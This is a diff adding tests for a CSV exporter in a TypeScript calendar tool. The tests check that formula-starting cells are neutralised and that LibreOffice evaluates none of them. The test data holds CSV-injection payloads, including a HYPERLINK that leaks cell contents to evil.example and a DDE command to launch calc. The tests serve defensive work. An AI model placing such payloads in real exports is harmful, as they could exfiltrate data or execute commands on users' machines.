@@ -1,3 +1,7 @@
+import { execFileSync, spawnSync } from "node:child_process";
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import ICAL from "ical.js";
 import { describe, expect, test } from "vitest";
 import { fixtureLibrary } from "../../test/fixtures/library.js";
@@ -104,6 +108,95 @@ describe("calendarToCsv", () => {
     expect(csv.replace(/"[^"]*(?:""[^"]*)*"/g, "").includes("\n\n")).toBe(false);
   });
 });
+
+/** Cells that start a formula in a spreadsheet (OWASP's CSV-injection list), as custom clauses could write them. */
+const FORMULAS = [
+  "=1+1",
+  "+2+3",
+  "-2+3",
+  "@SUM(1,1)",
+  "\t=1+1",
+  "\r=1+1",
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
+  "=cmd|' /C calc'!A0",
+  "-",
+];
+const formulaEntries = () =>
+  FORMULAS.map((f, i) =>
+    entry({ obligation: `o${i}`, action: f, timingText: f, evidence: [f, "Log"], satisfies: [f] }),
+  );
+
+describe("calendarToCsv neutralises formulas", () => {
+  test("a field starting with = + - @ tab or CR is prefixed with a single quote and quoted", () => {
+    const csv = calendarToCsv(formulaEntries());
+    const rows = csv.split("\r\n");
+    expect(rows[1]).toBe(`2026-01-01,dated,,o0,audit,supplier,"'=1+1","'=1+1",n,"'=1+1; Log",c,"'=1+1"`);
+    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")",`);
+    expect(csv).toContain(`,"'\t=1+1",`);
+    expect(csv).toContain(`,"'\r=1+1",`);
+    expect(csv).toContain(`,"'-",`);
+    // a formula character elsewhere in a field is harmless and stays as it is
+    expect(calendarToCsv([entry({ action: "a=1+1, b", evidence: ["x@y"] })])).toContain(
+      `,"a=1+1, b",Every year from the start date,n,x@y,`,
+    );
+  });
+});
+
+const sofficeAvailable =
+  Boolean(process.env.CI) || spawnSync("sh", ["-c", "command -v soffice"], { stdio: "ignore" }).status === 0;
+if (!sofficeAvailable) console.warn("soffice not found: skipping the LibreOffice Calc CSV test (it runs when CI=true)");
+
+describe.skipIf(!sofficeAvailable)("LibreOffice Calc opens the CSV", () => {
+  test("and evaluates no formula: every cell shows the text the calendar holds", () => {
+    const dir = mkdtempSync(join(tmpdir(), "fairtender-csv-"));
+    try {
+      const entries = formulaEntries();
+      writeFileSync(join(dir, "calendar.csv"), calendarToCsv(entries));
+      execFileSync(
+        "soffice",
+        [
+          `-env:UserInstallation=file://${join(dir, "profile")}`,
+          "--headless",
+          "--infilter=CSV:44,34,76", // comma, double quote, UTF-8
+          "--convert-to",
+          "html",
+          "--outdir",
+          dir,
+          join(dir, "calendar.csv"),
+        ],
+        { stdio: "ignore", timeout: 120_000 },
+      );
+      const html = readFileSync(join(dir, "calendar.html"), "utf8");
+      const rows = [...html.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((r) =>
+        [...r[1]!.matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map((c) => cellText(c[1]!)),
+      );
+      expect(rows).toHaveLength(entries.length + 1);
+      const shown = (v: string) => `'${v.replace(/\r/g, "\n")}`;
+      entries.forEach((e, i) => {
+        const row = rows[i + 1]!;
+        expect(row[6], e.action).toBe(shown(e.action));
+        expect(row[7], e.action).toBe(shown(e.timingText));
+        expect(row[9], e.action).toBe(shown(e.evidence.join("; ")));
+        expect(row[11], e.action).toBe(shown(e.satisfies[0]!));
+      });
+      expect(html).not.toMatch(/<a\s/i); // no HYPERLINK() evaluated
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  }, 180_000);
+});
+
+/** The text of an HTML table cell as LibreOffice writes it. */
+function cellText(inner: string): string {
+  return inner
+    .replace(/<br\s*\/?>/gi, "\n")
+    .replace(/<[^>]+>/g, "")
+    .replace(/&quot;/g, '"')
+    .replace(/&lt;/g, "<")
+    .replace(/&gt;/g, ">")
+    .replace(/&#(\d+);/g, (_, n: string) => String.fromCodePoint(Number(n)))
+    .replace(/&amp;/g, "&");
+}
 
 describe("calendarToICalendar", () => {
   const s: Selection = usPlan({ risk: { level: "high", basis: "own" } });
